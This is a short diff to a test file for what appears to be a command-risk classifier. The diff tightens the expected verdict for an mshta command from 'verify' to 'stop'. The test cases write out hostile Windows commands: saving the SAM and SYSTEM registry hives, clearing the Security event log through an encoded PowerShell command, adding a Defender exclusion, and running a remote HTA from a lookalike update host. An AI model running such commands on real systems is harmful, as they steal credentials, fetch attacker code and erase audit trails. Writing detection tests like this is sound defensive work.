@@ -47,7 +47,7 @@ describe("judged through the whole pipeline", () => {
     [`cmd.exe /c "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv /y && reg save HKLM\\SYSTEM C:\\Users\\Public\\sys.hiv /y"`, "stop"],
     [`powershell.exe -NoProfile -EncodedCommand ${Buffer.from("Clear-EventLog -LogName Security", "utf16le").toString("base64")}`, "stop"],
     [`cmd.exe /c powershell -Command "Add-MpPreference -ExclusionPath C:\\dev"`, "verify"],
-    [`cmd.exe /c "mshta.exe https://cdn-msupdate-check.example/kb5034441.hta"`, "verify"],
+    [`cmd.exe /c "mshta.exe https://cdn-msupdate-check.example/kb5034441.hta"`, "stop"],
   ])("%s → %s", (command, want) => {
     expect(verdict(command).verdict).toBe(want);
   });
